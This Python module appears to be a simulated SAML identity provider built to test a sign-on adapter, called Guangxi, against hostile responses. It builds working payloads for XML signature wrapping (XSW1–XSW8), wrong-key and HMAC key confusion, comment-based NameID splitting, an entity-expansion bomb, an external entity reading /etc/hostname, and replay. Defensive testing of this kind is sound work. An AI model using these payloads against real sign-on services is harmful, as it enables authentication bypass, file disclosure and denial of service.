"""What the simulated authority of Guangxi does when it is told to attack the sign-on.

Owns: the attacks, by name, each one deviation from an honest response. Leaves that to `sandbox_messages`.
XSW1 to XSW8 are the signature wrapping attacks as Somorovsky et al. number them ("On Breaking SAML", USENIX 2012).
"""

from __future__ import annotations

import copy
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from lxml import etree

from adapters.guangxi.sandbox_messages import CLASSES, SAMLP, Facts, assertion, element, new_id, response
from adapters.guangxi.sandbox_signature import (
    DS,
    ENVELOPED,
    EXCLUSIVE,
    HMAC_SHA256,
    RSA_SHA1,
    SAML,
    SHA1,
    XSLT,
    Signing,
    encrypt,
    sign,
)

ATTACKER = "GX-attacker"
AN_HOUR = timedelta(hours=1)


@dataclass(frozen=True, slots=True)
class Means:
    """What an attacker has to work with: an honest sign-on, the authority's keys, and an earlier response."""

    facts: Facts
    signing: Signing
    sealing: x509.Certificate
    earlier: bytes

    def signed(self, facts: Facts | None = None, signing: Signing | None = None) -> etree._Element:
        """Return an assertion that is signed."""
        made = assertion(facts or self.facts)
        sign(made, signing or self.signing)
        return made

    def forged(self) -> etree._Element:
        """Return an unsigned assertion about the attacker."""
        return assertion(self.facts.but(name_id=ATTACKER))

    def changed(self, **changes: object) -> bytes:
        """Return a response that is right but for these facts."""
        facts = self.facts.but(**changes)
        return _bytes(response(facts, self.signed(facts)))


Attack = Callable[[Means], bytes]


def _bytes(root: etree._Element) -> bytes:
    return etree.tostring(root)


def _signature(root: etree._Element) -> etree._Element:
    found = root.find(f"{{{DS}}}Signature")
    if found is None:
        raise ValueError("there is nothing to wrap")
    return found


def _signed_response(means: Means) -> etree._Element:
    honest = response(means.facts, assertion(means.facts))
    sign(honest, means.signing)
    return honest


def _evil_copy(root: etree._Element) -> etree._Element:
    """Return a copy without signature, under other ids, about the attacker."""
    evil = copy.deepcopy(root)
    for signature in evil.findall(f"{{{DS}}}Signature"):
        evil.remove(signature)
    for named in (evil, *evil.iter(f"{{{SAML}}}Assertion")):
        named.set("ID", new_id())
    for name in evil.iter(f"{{{SAML}}}NameID"):
        name.text = ATTACKER
    return evil


def _bare(root: etree._Element) -> etree._Element:
    """Return a copy without signature, under its own id: what the digest was computed of."""
    bare = copy.deepcopy(root)
    bare.remove(_signature(bare))
    return bare


# --- signature wrapping ------------------------------------------------------------------------------------------


def _xsw1(means: Means) -> bytes:
    """The signed response moves into the signature of a forged one."""
    honest = _signed_response(means)
    evil, signature = _evil_copy(honest), copy.deepcopy(_signature(honest))
    signature.append(_bare(honest))
    evil.insert(1, signature)
    return _bytes(evil)


def _xsw2(means: Means) -> bytes:
    """The signed response stands before its detached signature, both inside a forged one."""
    honest = _signed_response(means)
    evil = _evil_copy(honest)
    evil.insert(1, _bare(honest))
    evil.insert(2, copy.deepcopy(_signature(honest)))
    return _bytes(evil)


def _xsw3(means: Means) -> bytes:
    """A forged assertion stands before the signed one."""
    honest = means.signed()
    return _bytes(response(means.facts, _evil_copy(honest), honest))


def _xsw4(means: Means) -> bytes:
    """The signed assertion is a child of the forged one."""
    honest = means.signed()
    evil = _evil_copy(honest)
    evil.append(honest)
    return _bytes(response(means.facts, evil))


def _xsw5(means: Means) -> bytes:
    """The forged assertion has the signature; the original, without it, stands behind."""
    honest = means.signed()
    evil = _evil_copy(honest)
    evil.insert(1, copy.deepcopy(_signature(honest)))
    return _bytes(response(means.facts, evil, _bare(honest)))


def _xsw6(means: Means) -> bytes:
    """The forged assertion has the signature, and the original stands inside that."""
    honest = means.signed()
    evil, signature = _evil_copy(honest), copy.deepcopy(_signature(honest))
    signature.append(_bare(honest))
    evil.insert(1, signature)
    return _bytes(response(means.facts, evil))


def _xsw7(means: Means) -> bytes:
    """A forged assertion under the same id hides in Extensions, which schemas let pass."""
    honest = means.signed()
    evil = _evil_copy(honest)
    evil.set("ID", str(honest.get("ID")))
    made = response(means.facts, honest)
    extensions = element("Extensions", SAMLP)
    extensions.append(evil)
    made.insert(1, extensions)
    return _bytes(made)


def _xsw8(means: Means) -> bytes:
    """The original hides in an Object of the signature, which schemas let pass."""
    honest = means.signed()
    evil, signature = _evil_copy(honest), copy.deepcopy(_signature(honest))
    etree.SubElement(signature, f"{{{DS}}}Object").append(_bare(honest))
    evil.insert(1, signature)
    return _bytes(response(means.facts, evil))


# --- signatures --------------------------------------------------------------------------------------------------


def _unsigned_assertion(means: Means) -> bytes:
    return _bytes(_signed_response(means))


def _unsigned(means: Means) -> bytes:
    return _bytes(response(means.facts, assertion(means.facts)))


def stranger() -> Signing:
    """Return a key of the attacker's own, with a certificate that says it is the authority's."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Guangxi sign-on (simulated)")])
    now = datetime.now(UTC)
    builder = x509.CertificateBuilder(name, name, key.public_key(), x509.random_serial_number())
    certificate = builder.not_valid_before(now - AN_HOUR).not_valid_after(now + AN_HOUR).sign(key, hashes.SHA256())
    return Signing(key, certificate)


def _wrong_key(means: Means) -> bytes:
    return _bytes(response(means.facts, means.signed(signing=stranger())))


def _by(**changes: object) -> Attack:
    def attack(means: Means) -> bytes:
        return _bytes(response(means.facts, means.signed(signing=means.signing.but(**changes))))

    return attack


def _whole_document(means: Means) -> bytes:
    return _by(references=[""])(means)


def _two_references(means: Means) -> bytes:
    facts = means.facts.but(assertion_id=new_id())
    twice = means.signing.but(references=[f"#{facts.assertion_id}", f"#{facts.assertion_id}"])
    return _bytes(response(facts, means.signed(facts, twice)))


# --- documents ---------------------------------------------------------------------------------------------------


def _comment(means: Means) -> bytes:
    """A name that is another's up to a comment: canonical XML drops the comment, so the signature stays right."""
    facts = means.facts
    honest = means.signed(facts.but(name_id=f"{facts.name_id}.evil"))
    text = f"{facts.name_id}.evil</saml:NameID>"
    return _bytes(response(facts, honest)).replace(text.encode(), f"{facts.name_id}<!---->.evil</saml:NameID>".encode())


def _instruction(means: Means) -> bytes:
    facts = means.facts
    honest = assertion(facts)
    name = next(honest.iter(f"{{{SAML}}}NameID"))
    name.append(etree.ProcessingInstruction("evil"))
    name[0].tail = ".evil"
    sign(honest, means.signing)
    return _bytes(response(facts, honest))


def _bomb(means: Means) -> bytes:
    """Ten entities, each ten times the last: a parser that expands them needs gigabytes."""
    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    doctype = f'<!DOCTYPE r [<!ENTITY e0 "aaaaaaaaaa">{levels}]>'
    text = _bytes(response(means.facts, means.signed())).decode()
    return (doctype + text.replace("</saml:NameID>", "&e9;</saml:NameID>")).encode()


def _external_entity(means: Means) -> bytes:
    text = _bytes(response(means.facts, means.signed())).decode()
    doctype = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    return (doctype + text.replace("</saml:NameID>", "&x;</saml:NameID>")).encode()


def _two_assertions(means: Means) -> bytes:
    facts = means.facts
    return _bytes(response(facts, means.signed(), means.signed(facts.but(name_id=ATTACKER))))


def _same_id(means: Means) -> bytes:
    honest = means.signed()
    made = response(means.facts, honest)
    made.set("ID", str(honest.get("ID")))
    return _bytes(made)


# --- encryption, and what was sent before ------------------------------------------------------------------------


def _encrypted_unsigned(means: Means) -> bytes:
    sealed = encrypt(_bytes(assertion(means.facts)), means.sealing)
    made = response(means.facts, sealed)
    sign(made, means.signing)
    return _bytes(made)


def _encrypted_cbc(means: Means) -> bytes:
    return _bytes(response(means.facts, encrypt(_bytes(means.signed()), means.sealing, cbc=True)))


def _encrypted_response(means: Means) -> bytes:
    whole = response(means.facts, means.signed())
    return _bytes(response(means.facts, encrypt(_bytes(whole), means.sealing)))


def _replayed(means: Means) -> bytes:
    """An assertion that served before, in a new response that answers the new request."""
    earlier = etree.fromstring(means.earlier).find(f"{{{SAML}}}Assertion")
    if earlier is None:
        raise ValueError("there was no earlier assertion")
    return _bytes(response(means.facts, earlier))


def _wrong_destination(means: Means) -> bytes:
    facts, elsewhere = means.facts, "https://elsewhere.example/acs"
    return _bytes(response(facts.but(callback=elsewhere), means.signed()))


def _changed(**changes: object) -> Attack:
    return lambda means: means.changed(**changes)


def _moved(by: timedelta) -> Attack:
    return lambda means: means.changed(now=means.facts.now + by)


ATTACKS: Mapping[str, tuple[Attack, str]] = {
    "hostile_xsw1": (_xsw1, "wraps: the signed response inside the signature of a forged one"),
    "hostile_xsw2": (_xsw2, "wraps: the signed response beside its signature in a forged one"),
    "hostile_xsw3": (_xsw3, "wraps: a forged assertion before the signed one"),
    "hostile_xsw4": (_xsw4, "wraps: the signed assertion inside a forged one"),
    "hostile_xsw5": (_xsw5, "wraps: a forged assertion with the signature of the one behind it"),
    "hostile_xsw6": (_xsw6, "wraps: the signed assertion inside the signature of a forged one"),
    "hostile_xsw7": (_xsw7, "wraps: a forged assertion of the same id in Extensions"),
    "hostile_xsw8": (_xsw8, "wraps: the signed assertion in an Object of a forged one's signature"),
    "hostile_unsigned": (_unsigned, "signs nothing"),
    "hostile_unsigned_assertion": (_unsigned_assertion, "signs the response and not the assertion"),
    "hostile_wrong_key": (_wrong_key, "signs with a key of its own and sends the certificate along"),
    "hostile_sha1": (_by(method=RSA_SHA1, digest=SHA1), "signs with SHA-1"),
    "hostile_sha1_digest": (_by(digest=SHA1), "digests with SHA-1"),
    "hostile_hmac": (_by(method=HMAC_SHA256), "signs with HMAC, the public certificate as the secret"),
    "hostile_xslt": (_by(transforms=(ENVELOPED, XSLT, EXCLUSIVE)), "has a stylesheet run over what is signed"),
    "hostile_xslt_first": (_by(transforms=(XSLT, EXCLUSIVE)), "has a stylesheet run in place of the enveloped one"),
    "hostile_whole_document": (_whole_document, "signs by a reference to whatever document it stands in"),
    "hostile_two_references": (_two_references, "signs with two references"),
    "hostile_comment": (_comment, "splits the name by a comment that is not signed"),
    "hostile_instruction": (_instruction, "splits the name by a processing instruction that is signed"),
    "hostile_bomb": (_bomb, "declares entities that grow to gigabytes"),
    "hostile_external_entity": (_external_entity, "declares an entity that is a file of ours"),
    "hostile_two_assertions": (_two_assertions, "sends two signed assertions"),
    "hostile_same_id": (_same_id, "gives response and assertion the same id"),
    "hostile_encrypted_unsigned": (_encrypted_unsigned, "encrypts an unsigned assertion in a signed response"),
    "hostile_encrypted_cbc": (_encrypted_cbc, "encrypts by CBC"),
    "hostile_encrypted_response": (_encrypted_response, "encrypts a whole response where an assertion belongs"),
    "hostile_replayed": (_replayed, "sends an assertion that served before"),
    "hostile_unsolicited": (_changed(request_id=None), "answers without having been asked"),
    "hostile_wrong_request": (_changed(request_id=new_id()), "answers another request"),
    "hostile_wrong_inner_request": (_changed(inner_request_id=new_id()), "answers another request in the assertion"),
    "hostile_wrong_issuer": (_changed(issuer="https://elsewhere.example/idp"), "says that another entity issued it"),
    "hostile_wrong_audience": (_changed(audience="https://elsewhere.example/sp"), "is meant for somebody else"),
    "hostile_wrong_recipient": (
        _changed(recipient="https://elsewhere.example/acs"),
        "is to be posted to somebody else",
    ),
    "hostile_wrong_destination": (_wrong_destination, "sends what was meant for another address"),
    "hostile_expired": (_moved(-AN_HOUR), "sends what was good an hour ago"),
    "hostile_early": (_moved(AN_HOUR), "sends what will be good in an hour"),
    "hostile_holder_of_key": (_changed(method="urn:oasis:names:tc:SAML:2.0:cm:holder-of-key"), "confirms by a key"),
    "hostile_level": (_changed(context=f"{CLASSES}unspecified"), "reaches a class that nobody asked for"),
}
"""Attack → how it is made, and what it does. Each is told by its name when the sign-on is answered."""
